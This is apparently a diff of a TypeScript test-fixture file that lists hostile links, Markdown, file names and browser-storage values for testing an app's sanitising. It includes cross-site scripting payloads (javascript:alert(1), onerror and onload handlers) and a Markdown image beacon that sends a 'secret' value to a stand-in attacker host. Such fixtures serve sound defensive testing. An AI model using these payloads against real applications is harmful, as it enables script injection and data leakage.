@@ -1,6 +1,6 @@
 const NUL = '\u0000';
 
-/** Addresses that run something or lead elsewhere, in the disguises that browsers see through. */
+/** Addresses that run a script or lead to another host, in spellings that browsers accept. */
 export const HOSTILE_LINKS: readonly string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -34,7 +34,7 @@ export const HOSTILE_LINKS: readonly string[] = [
   'intent://evil.example#Intent;end',
 ];
 
-/** Addresses of another host that look like places of the app. */
+/** Addresses of another host that look like paths of the app. */
 export const FOREIGN_LINKS: readonly string[] = [
   'https://evil.example/',
   'HTTP://evil.example',
@@ -68,7 +68,7 @@ export const FOREIGN_LINKS: readonly string[] = [
   '@evil.example',
 ];
 
-/** Markdown that tries to run something, to fetch something, or to lead away inside the app. */
+/** Markdown that tries to run a script, to send a request, or to lead to another page of the app. */
 export const HOSTILE_MARKDOWN: readonly string[] = [
   ...HOSTILE_LINKS.map((link) => `[a](<${link.replace(/[<>\r\n]/g, '')}>)`),
   '![beacon](https://evil.example/beacon.gif?q=secret)',
@@ -107,7 +107,7 @@ export const HOSTILE_FILE_NAMES: readonly string[] = [
   `${'长'.repeat(400)}.txt`,
 ];
 
-/** Values of the browser's storage that somebody else may have put there. */
+/** Hostile values of the browser's storage. */
 export const HOSTILE_STORAGE: readonly (readonly [key: string, value: string])[] = [
   ['theme', '{"themeName":"x\\" onload=alert(1) y","layout":"<img src=x onerror=alert(1)>"}'],
   [
